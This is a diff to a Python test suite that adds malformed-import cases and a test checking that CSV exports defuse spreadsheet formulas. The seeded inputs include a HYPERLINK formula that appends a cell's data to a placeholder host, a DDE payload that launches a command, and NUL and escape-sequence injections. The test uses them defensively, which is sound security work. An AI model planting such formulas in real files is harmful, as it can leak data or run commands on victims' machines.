@@ -31,6 +31,7 @@ from app.client import RoomClient
 from app.db import make_engine
 from app.sealing import Sealer
 from app.snapshot import GROUP_SEAL
+from app.templates import builtin_templates
 from tests.conftest import MakeClient, NewRoom
 from tests.servers import IN_CI, ServerProcess
 
@@ -570,7 +571,24 @@ async def test_bad_imports_are_refused_and_leave_nothing(
                 "notes.0.voters.0",
             ),
             (changed(participants=3), 422, "invalid_export", "participants"),
+            (changed(participants=5001), 422, "limit_reached", "5,001 participants"),
             (b" " * (50 * 1024 * 1024), 413, "too_large", "MB"),
+            # A nesting bomb was a 500 (issue 17); a NUL was stored on SQLite, a 500 on PostgreSQL.
+            (b"[" * 2048, 422, "invalid_json", "not JSON"),
+            (b'{"schema_version": 2, "room": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", 422, "invalid_json", "JSON"),
+            (
+                changed(notes=[{**first_note, "author_name": "Å\u0000sa"}, *good["notes"][1:]]),
+                422,
+                "invalid_export",
+                "notes.0.author_name",
+            ),
+            (
+                changed(notes=[{**first_note, "text": "Lapp\u001b[31m"}, *good["notes"][1:]]),
+                422,
+                "invalid_export",
+                "notes.0.text",
+            ),
+            (changed(room={**good["room"], "title": "\u0000"}), 422, "invalid_export", "room.title"),
         ]
         for body, status, code, named in cases:
             response = await http.post("/api/rooms/import", content=body, timeout=60)
@@ -624,6 +642,44 @@ async def test_exports_are_for_the_facilitator_only(
         url, params={"format": "pdf"}, headers={"Authorization": f"Bearer {room['facilitator_token']}"}
     )
     assert bad_format.status_code == 422
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"Klicka")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"]
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert(
+    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
+) -> None:
+    """Issue 17: poles and group names went into the CSV raw, so a spreadsheet ran them as
+    formulas. Each cell that begins with = + - @ (or tab or CR) now begins with a quote."""
+    template = builtin_templates()["tjanstelogik"].model_dump(mode="json")
+    template["statements"][0]["left"] = {"sv": FORMULAS[0]}
+    template["statements"][0]["right"] = {"sv": FORMULAS[1]}
+    template["statements"][1]["left"] = {"sv": FORMULAS[2]}
+    template["statements"][1]["right"] = {"sv": FORMULAS[3]}
+    room = await new_room(title="Formler", template=template)
+    facilitator = clients(room["room_id"], room["facilitator_token"])
+    await facilitator.connect()
+    await facilitator.command("update_room", group_min_size=2)
+    await facilitator.command("set_groups", groups=[{"id": "g", "name": "=1+1"}, {"id": "h", "name": "@A1"}])
+    for group in ("g", "g", "h", "h"):
+        person = clients(room["room_id"])
+        await person.connect()
+        await person.command("set_profile", group=group)
+        await person.command("set_score", statement_id="s1", value=3)
+        await person.command("set_score", statement_id="s2", value="unknown")
+    ack = await facilitator.command("set_results_visible", visible=True)
+    await facilitator.wait_until(lambda: (facilitator.last_seq or 0) >= ack["seq"])
+    rows = list(csv.reader(io.StringIO((await export(http, room, "csv")).content.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    dangerous = [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"} and not NUMBER.fullmatch(c)]
+    assert not dangerous, f"cells a spreadsheet would run: {dangerous}"
+    for formula in (*FORMULAS, "=1+1", "@A1"):
+        assert "'" + formula in cells, f"{formula!r} is kept, behind a quote"
+    assert [row[0] for row in rows if row[:1] and row[0] in {"'=1+1", "'@A1"}], "the group rows are there"
+
+
+NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")
 
 
 @pytest.fixture(scope="module")
